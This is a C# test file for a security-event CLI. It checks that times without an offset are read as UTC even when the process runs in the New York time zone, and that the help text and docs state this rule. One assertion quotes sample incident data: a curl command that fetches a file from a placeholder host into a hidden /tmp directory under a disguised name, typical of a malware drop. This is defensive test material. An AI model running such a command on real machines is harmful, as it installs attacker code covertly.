using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using CsmEvents.Tests.Datadog;
using CsmEvents.Tests.Support;
using CsmEvents.Text;

namespace CsmEvents.Tests.Cli;

/// <summary>
/// One rule for every time option (--after, --before, --from, --to) and every time parameter: a time without an
/// offset is UTC, whatever the machine's time zone. The CLI runs as its own process with TZ=America/New_York
/// (four or five hours behind UTC), where a local reading would shift every bound.
/// </summary>
public class TimeRuleTests
{
    private const string NewYork = "America/New_York";

    private static string Incident => Path.Combine(RepoPaths.Samples, "linux", "incident-web01.jsonl");

    /// <summary>Runs the built csm-events in a child process with TZ set.</summary>
    private static (int Code, string[] Stdout, string Stderr) RunInNewYork(IEnumerable<string> args, Dictionary<string, string>? environment = null)
    {
        string host = Path.Combine(AppContext.BaseDirectory, OperatingSystem.IsWindows() ? "csm-events.exe" : "csm-events");
        var start = new ProcessStartInfo(host) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (string arg in args) start.ArgumentList.Add(arg);
        start.Environment["TZ"] = NewYork;
        foreach (var name in new[] { "DD_API_KEY", "DD_APP_KEY", "DD_APPLICATION_KEY", "DD_SITE" }) start.Environment.Remove(name);
        foreach (var (name, value) in environment ?? new Dictionary<string, string>()) start.Environment[name] = value;
        using var process = Process.Start(start)!;
        var stdout = process.StandardOutput.ReadToEndAsync();
        string stderr = process.StandardError.ReadToEnd();
        Assert.True(process.WaitForExit(60_000), "csm-events did not end within 60 s");
        return (process.ExitCode, stdout.Result.Split('\n', StringSplitOptions.RemoveEmptyEntries), stderr);
    }

    [Fact]
    public void NewYorkIsAKnownTimeZoneHere() =>
        Assert.Equal(TimeSpan.FromHours(-4), TimeZoneInfo.FindSystemTimeZoneById(NewYork).GetUtcOffset(new DateTime(2025, 6, 3, 9, 41, 0, DateTimeKind.Utc)));

    [Theory]
    [InlineData("get")]
    [InlineData("tree")]
    public void AfterAndBeforeWithoutOffsetAreUtc(string command)
    {
        var utc = RunInNewYork(new[] { command, Incident, "--after", "2025-06-03T09:41:00Z", "--before", "2025-06-03T09:42:00Z" });
        var bare = RunInNewYork(new[] { command, Incident, "--after", "2025-06-03T09:41:00", "--before", "2025-06-03T09:42:00" });
        var local = RunInNewYork(new[] { command, Incident, "--after", "2025-06-03T05:41:00-04:00", "--before", "2025-06-03T05:42:00-04:00" });
        Assert.Equal((0, ""), (utc.Code, utc.Stderr));
        Assert.Equal(utc.Stdout, bare.Stdout);
        Assert.Equal(utc.Stdout, local.Stdout);
        if (command == "get") Assert.Equal(13, utc.Stdout.Length);
        else Assert.Contains(utc.Stdout, line => line.EndsWith("curl (24313) [exec] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0"));
    }

    [Fact]
    public void FromAndToWithoutOffsetAreSentAsUtc()
    {
        string empty = "{\"data\":[],\"meta\":{\"page\":{},\"status\":\"done\"}}";
        using var server = new LoopbackServer(ScriptedResponse.Ok(empty));
        var keys = new Dictionary<string, string> { ["DD_API_KEY"] = "api-key-0123456789abcdef", ["DD_APP_KEY"] = "app-key-fedcba9876543210" };
        var run = RunInNewYork(new[] { "get", "--query", "x", "--from", "2025-06-03T09:41:00", "--to", "2025-06-03T05:42:00-04:00", "--api-url", server.BaseUrl }, keys);
        Assert.Equal((0, ""), (run.Code, run.Stderr));
        var filter = Assert.Single(server.Requests).Json.GetProperty("filter");
        Assert.Equal("2025-06-03T09:41:00.000Z", filter.GetProperty("from").GetString());
        Assert.Equal("2025-06-03T09:42:00.000Z", filter.GetProperty("to").GetString());
    }

    [Fact]
    public void TheUsageOfEveryCommandWithTimesStatesTheRule()
    {
        foreach (string command in new[] { "get", "tree", "test", "report" })
        {
            var run = CliRun.Run(new[] { command, "--help" });
            Assert.Contains("A time without an offset (2025-06-03T09:41:00)\n  is UTC, like the events' and Datadog's times, whatever the machine's time zone.", run.Stdout);
        }
    }

    [Fact]
    public void EveryTimeParameterInTheHelpPagesStatesTheRule()
    {
        var timeParameters = new List<string>();
        foreach (string page in Directory.GetFiles(RepoPaths.InRepo("docs", "cmdlets"), "*.md"))
        {
            // "### -Name", its text, then its YAML block with "Type: ..."
            var sections = File.ReadAllText(page).Replace("\r\n", "\n").Split("\n### -").Skip(1);
            foreach (string section in sections)
            {
                string type = section.Split('\n').FirstOrDefault(l => l.StartsWith("Type: ", StringComparison.Ordinal)) ?? "";
                if (type != "Type: DateTimeOffset" && type != "Type: DatadogTime") continue;
                string name = Path.GetFileNameWithoutExtension(page) + " -" + section.Substring(0, section.IndexOf('\n'));
                timeParameters.Add(name);
                Assert.True(section.Replace("\n", " ").Contains("Text without an offset (`2025-06-03T09:41:00`) is UTC"), name + " does not state the time rule");
            }
        }
        Assert.Equal(new[] { "Get-CsmEvent -After", "Get-CsmEvent -Before", "Get-CsmEvent -From", "Get-CsmEvent -To", "Test-CsmEvent -From", "Test-CsmEvent -To" },
            timeParameters.OrderBy(n => n, StringComparer.Ordinal));
        Assert.Contains("Text without an offset (2025-06-03T09:41:00) is", File.ReadAllText(RepoPaths.InRepo("docs", "cmdlets", "about_CsmEvents.help.txt")));
    }

    [Fact]
    public void DatesThatDoNotSayTheirZoneAreUtcAndLocalDatesAreTheirInstant()
    {
        var unspecified = new DateTime(2025, 6, 3, 9, 41, 0, DateTimeKind.Unspecified);
        Assert.Equal(new DateTimeOffset(2025, 6, 3, 9, 41, 0, TimeSpan.Zero), TimeText.FromDateTime(unspecified));
        Assert.Equal("2025-06-03T09:41:00.000Z", ((CsmEvents.Datadog.DatadogTime)unspecified).ToRequestValue());
        var local = new DateTime(2025, 6, 3, 9, 41, 0, DateTimeKind.Local);
        Assert.Equal(new DateTimeOffset(local).UtcDateTime, TimeText.FromDateTime(local).UtcDateTime);
        Assert.True(TimeText.TryParse("2025-06-03", DateTimeOffset.UtcNow, out var date));
        Assert.Equal(new DateTimeOffset(2025, 6, 3, 0, 0, 0, TimeSpan.Zero), date);
    }
}
